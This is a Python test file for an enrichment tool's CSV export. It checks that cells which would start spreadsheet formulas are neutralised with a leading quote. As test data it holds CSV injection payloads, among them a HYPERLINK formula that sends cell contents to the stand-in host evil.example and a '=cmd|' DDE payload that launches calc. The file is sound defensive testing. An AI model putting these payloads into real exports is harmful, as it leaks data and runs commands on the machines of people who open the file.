"""No CSV we write opens as a live formula (OWASP CSV injection): every dangerous first
character, alone or after leading spaces, is neutralised with a `'`, the value otherwise kept;
numbers and ordinary text are untouched; separators and quotes inside a value stay inside
their cell."""

from __future__ import annotations

import csv
import http.server
import io
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from roleferry.csv_export import neutralise_csv_text, safe_cell, write_csv
from roleferry.sandbox.world import World
from tests.support.live_server import LiveServer, live_server

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1@acme.io",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =cmd|' /C calc'!A0",
    "\u00a0@SUM(A1)",
    "＝1+1",  # noqa: RUF001 - full-width equals, a formula in East Asian locales
    "－1+1",  # noqa: RUF001
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_would_start_a_formula_gets_a_quote_in_front(value: str) -> None:
    """Each of OWASP's first characters (and line feed, full-width forms, leading spaces)
    comes out as `'` + the value, nothing else changed."""
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Dana",
        "dana.lee@acme.io",
        "O'Brien",
        "a=b",
        "x+y@acme.io",
        "",
        None,
        0.87,
        -3,
        12,
        "-5",
        "+1.5e3",
        "-.5",
        " leading space",
    ],
)
def test_ordinary_values_and_numbers_are_left_alone(value: object) -> None:
    """Text that starts no formula, numbers (negative ones included) and numeric text stay
    exactly as they are."""
    assert safe_cell(value) == value


def test_written_csv_reads_back_as_the_values_with_the_quote() -> None:
    """A separator, quotes and a newline inside a dangerous value stay in one cell, so no
    formula can start a cell of its own."""
    rows = [
        {"name": '=HYPERLINK("http://e.example/"&A1,"x"),=1+1', "email": "+x@acme.io", "n": -2},
        {"name": "Dana", "email": "dana@acme.io", "n": 0.5},
    ]
    text = write_csv(("name", "email", "n"), rows)
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "email", "n"],
        ['\'=HYPERLINK("http://e.example/"&A1,"x"),=1+1', "'+x@acme.io", "-2"],
        ["Dana", "dana@acme.io", "0.5"],
    ]


def test_csv_from_elsewhere_is_rewritten_safe_and_rewriting_is_idempotent() -> None:
    """The CLI rewrites the CSV it saves: unsafe cells gain the quote; safe text, numbers and
    already-neutralised cells come out the same."""
    unsafe = 'name,email,confidence\r\n"=1+1",+x@acme.io,-0.5\r\nDana,dana@acme.io,0.9\r\n'
    safe = neutralise_csv_text(unsafe)
    assert list(csv.reader(io.StringIO(safe))) == [
        ["name", "email", "confidence"],
        ["'=1+1", "'+x@acme.io", "-0.5"],
        ["Dana", "dana@acme.io", "0.9"],
    ]
    assert neutralise_csv_text(safe) == safe


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    with live_server(tmp_path_factory.mktemp("csv"), apollo_rate_limit="100000/3600") as live:
        yield live


def test_the_results_csv_of_a_job_neutralises_names_titles_and_provider_built_emails(
    server: LiveServer,
) -> None:
    """A contact named `=HYPERLINK(...)`, a title `@SUM(...)`, and a name that makes the
    provider build an address starting with `+`: in the results CSV each is quoted, and
    reads back as the value with a `'` in front."""
    world = World(7)
    company = next(c for c in world.companies if world.hunter_knows_pattern(c))
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    contacts = [
        {"first_name": hyperlink, "last_name": "Lee", "domain": company.domain},
        {
            "first_name": "+Dana",
            "last_name": "+Lee",
            "domain": company.domain,
            "title": "@SUM(A1:A9)",
        },
    ]
    created = httpx.post(
        f"{server.url}/api/v1/enrichment-jobs",
        json={"contacts": contacts},
        headers=server.auth,
        timeout=30,
    )
    assert created.status_code == 202, created.text
    job_id = created.json()["id"]
    deadline = time.monotonic() + 60
    while httpx.get(f"{server.url}/api/v1/enrichment-jobs/{job_id}", headers=server.auth).json()[
        "status"
    ] not in ("succeeded", "partially_succeeded", "failed"):
        assert time.monotonic() < deadline
        time.sleep(0.2)
    response = httpx.get(
        f"{server.url}/api/v1/enrichment-jobs/{job_id}/results",
        headers={**server.auth, "Accept": "text/csv"},
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows[0]["first_name"] == "'" + hyperlink
    assert rows[1]["first_name"] == "'+Dana"
    assert rows[1]["last_name"] == "'+Lee"
    assert rows[1]["title"] == "'@SUM(A1:A9)"
    assert rows[1]["email"].startswith("'+"), rows[1]
    assert rows[0]["line"] == "1"
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row.values() if cell)


UNSAFE_RESULTS = (
    "line,first_name,last_name,domain,email,confidence\r\n"
    '1,"=HYPERLINK(""http://evil.example/"",""x"")",Lee,acme.io,+lee@acme.io,-0.5\r\n'
)


class OlderServer(http.server.BaseHTTPRequestHandler):
    """A server of another version that writes its results CSV unneutralised."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["content-length"]))
        self._send(202, b'{"id": "job_1", "total": 1, "rejected": []}', "application/json")

    def do_GET(self) -> None:
        if self.path.endswith("/results"):
            self._send(200, UNSAFE_RESULTS.encode(), "text/csv")
        else:
            body = b'{"status": "succeeded", "done": 1, "found": 1, "not_found": 0, "failed": 0}'
            self._send(200, body, "application/json")

    def _send(self, status: int, body: bytes, kind: str) -> None:
        self.send_response(status)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: object) -> None:
        return


def test_the_cli_output_file_is_neutralised_whatever_the_server_sent(tmp_path: Path) -> None:
    """`roleferry enrich -o` rewrites the CSV it saves: from a server that sent live formulas,
    the file holds them quoted, the other cells as sent."""
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), OlderServer)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    source = tmp_path / "contacts.csv"
    source.write_text("first_name,last_name,domain\nDana,Lee,acme.io\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("ROLEFERRY_")}
    try:
        result = subprocess.run(
            [
                sys.executable,
                "-m",
                "roleferry",
                "enrich",
                str(source),
                "-o",
                "out.csv",
                "--server",
                f"http://127.0.0.1:{httpd.server_port}",
                "--api-key",
                "rf_test",
            ],
            env=env,
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=60,
        )
    finally:
        httpd.shutdown()
    assert result.returncode == 0, result.stderr
    with (tmp_path / "out.csv").open(newline="") as saved:
        rows = list(csv.reader(saved))
    assert rows == [
        ["line", "first_name", "last_name", "domain", "email", "confidence"],
        [
            "1",
            '\'=HYPERLINK("http://evil.example/","x")',
            "Lee",
            "acme.io",
            "'+lee@acme.io",
            "-0.5",
        ],
    ]
